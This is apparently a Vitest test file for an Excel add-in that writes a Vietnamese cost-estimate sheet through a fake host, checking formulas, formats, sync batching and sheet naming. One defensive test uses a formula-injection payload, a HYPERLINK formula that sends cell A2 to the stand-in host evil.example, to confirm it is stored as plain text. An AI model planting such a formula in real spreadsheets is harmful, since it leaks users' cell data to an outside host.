import { describe, expect, it } from 'vitest';
import type { RenderCell, RenderPlan } from '../src/office/render-plan.ts';
import { freeSheetName, widthToPoints, writePlan } from '../src/office/write-plan.ts';
import { FakeExcelHost, fakeRun } from './fake-office/index.ts';

/** A synthetic plan: title, header row, n lines with =D*E formulas, a SUM total. */
function plan(n: number, agency = 'ỦY BAN NHÂN DÂN XÃ BẢO HÀ'): RenderPlan {
  const cells: RenderCell[] = [
    { row: 0, col: 0, kind: 'text', value: agency, style: { bold: true } },
    ...['STT', 'Nội dung', 'ĐVT', 'Khối lượng', 'Đơn giá', 'Thành tiền'].map((h, col): RenderCell => ({ row: 2, col, kind: 'text', value: h, style: { bold: true, border: true, hAlign: 'Center' } })),
  ];
  for (let i = 0; i < n; i++) {
    const r = 3 + i;
    cells.push(
      { row: r, col: 0, kind: 'text', value: String(i + 1), style: { border: true } },
      { row: r, col: 1, kind: 'text', value: `Số hóa tài liệu dòng ${i + 1}`, style: { border: true, wrap: true } },
      { row: r, col: 2, kind: 'text', value: 'Trang A4', style: { border: true } },
      { row: r, col: 3, kind: 'number', value: '1000', style: { border: true, numberFormat: '#,##0' } },
      { row: r, col: 4, kind: 'number', value: 1111 + (i % 7), style: { border: true, numberFormat: '#,##0' } },
      { row: r, col: 5, kind: 'formula', formula: `D${r + 1}*E${r + 1}`, value: null, style: { border: true, numberFormat: '#,##0' } },
    );
  }
  const last = 3 + n;
  cells.push({ row: last, col: 5, kind: 'formula', formula: `=SUM(F4:F${last})`, value: null, style: { bold: true, numberFormat: '#,##0' } });
  return {
    sheetName: 'Dự toán',
    cells,
    merges: [{ row: 0, col: 0, rows: 1, cols: 6 }],
    columnWidths: [{ col: 0, width: 6 }, { col: 1, width: 45 }],
    rowHeights: [],
    names: [{ name: 'DT_TONG_CONG', rect: { row: last, col: 5, rows: 1, cols: 1 } }],
    freezeRows: 3,
    print: { paperSize: 'A4', orientation: 'Portrait', fitToWidth: true, margins: { left: 0.6, right: 0.4, top: 0.6, bottom: 0.6, header: 0.3, footer: 0.3 }, centerHorizontally: true, titleRows: { from: 3, to: 3 }, centerFooter: 'Trang &P/&N' },
  };
}

describe('writePlan against the fake Excel host', () => {
  it('writes cells, formulas, formats, merges, widths and names; totals computed by the host', async () => {
    const host = new FakeExcelHost();
    const r = await fakeRun(host)((ctx) => writePlan(ctx, plan(3)));
    expect(r.sheetName).toBe('Dự toán');
    const s = host.state.snapshot('Dự toán');
    expect(s.cells.A1).toMatchObject({ value: 'ỦY BAN NHÂN DÂN XÃ BẢO HÀ', bold: true });
    expect(s.cells.A4).toMatchObject({ value: '1', quotePrefix: true }); // STT stays text
    expect(s.cells.F4).toMatchObject({ formula: '=D4*E4', computed: 1_111_000, numberFormat: '#,##0' });
    // 1000×1111 + 1000×1112 + 1000×1113 = 3,336,000
    expect(s.cells.F7).toMatchObject({ formula: '=SUM(F4:F6)', computed: 3_336_000, bold: true });
    expect(s.cells.B4!.borders).toEqual({ top: 'Continuous', bottom: 'Continuous', left: 'Continuous', right: 'Continuous' });
    expect(s.merges).toEqual(['A1:F1']);
    expect(s.colWidths).toEqual({ 0: widthToPoints(6), 1: widthToPoints(45) });
    expect(host.state.workbookNames()).toEqual({ DT_TONG_CONG: "'Dự toán'!F7" });
    expect(s.frozenRows).toBe(3);
    expect(s.pageLayout.paperSize).toBe('A4');
    expect(host.state.activeSheet).toBe('Dự toán');
  });

  it('uses the same number of syncs (2) for 10 and 5,000 lines, calculation suspended, requests < 5 MB', async () => {
    const counts: number[] = [];
    for (const n of [10, 5000]) {
      const host = new FakeExcelHost();
      const r = await fakeRun(host)((ctx) => writePlan(ctx, plan(n)));
      counts.push(host.syncs.length);
      expect(r.syncs).toBe(host.syncs.length);
      expect(host.syncs.every((s) => !s.implicit)).toBe(true);
      const writes = host.syncs.find((s) => s.ops.some((o) => o.kind === 'formulas'))!;
      expect(writes.calcSuspended).toBe(true);
      for (const s of host.syncs) expect(s.requestBytes).toBeLessThan(5 * 1024 * 1024);
      // the 5,000 lines are written as one block of 5,000 × 6 cells, not cell by cell
      const formulaWrites = host.syncs.flatMap((s) => s.ops).filter((o) => o.kind === 'formulas');
      expect(formulaWrites.length).toBeLessThanOrEqual(4);
      const last = 3 + n;
      expect(host.state.valueOf('Dự toán', last, 5)).toBe(1000 * Array.from({ length: n }, (_, i) => 1111 + (i % 7)).reduce((a, b) => a + b, 0));
    }
    expect(counts).toEqual([2, 2]);
  });

  it('cuts into further syncs only past the per-sync byte budget (a request over 5 MB would fail)', async () => {
    const host = new FakeExcelHost();
    const r = await fakeRun(host)((ctx) => writePlan(ctx, plan(2000), { syncBudgetBytes: 64 * 1024, chunkBytes: 16 * 1024 }));
    expect(r.syncs).toBeGreaterThan(3);
    for (const s of host.syncs.slice(1)) {
      expect(s.requestBytes).toBeLessThan(80 * 1024);
      expect(s.calcSuspended).toBe(true);
    }
    expect(host.state.valueOf('Dự toán', 2003, 5)).toBeGreaterThan(0);
  });

  it('neutralises formula injection in user text', async () => {
    const host = new FakeExcelHost();
    const evil = '=HYPERLINK("http://evil.example/?x="&A2,"Bấm")';
    await fakeRun(host)((ctx) => writePlan(ctx, plan(1, evil)));
    const a1 = host.state.snapshot('Dự toán').cells.A1!;
    expect(a1.formula).toBeNull();
    expect(a1.value).toBe(evil);
  });

  it('picks a free sheet name and keeps names unique by scoping them to the sheet', async () => {
    const host = new FakeExcelHost();
    await fakeRun(host)((ctx) => writePlan(ctx, plan(2)));
    const r2 = await fakeRun(host)((ctx) => writePlan(ctx, plan(2)));
    expect(r2.sheetName).toBe('Dự toán (2)');
    expect(r2.namesScope).toBe('worksheet');
    expect(host.state.snapshot('Dự toán (2)').names).toEqual({ DT_TONG_CONG: "'Dự toán (2)'!F6" });
  });

  it('freeSheetName', () => {
    expect(freeSheetName('Dự toán', ['Sheet1'])).toBe('Dự toán');
    expect(freeSheetName('Dự toán', ['dự toán', 'Dự toán (2)'])).toBe('Dự toán (3)');
    expect(freeSheetName('a/b', [])).toBe('a b');
  });
});
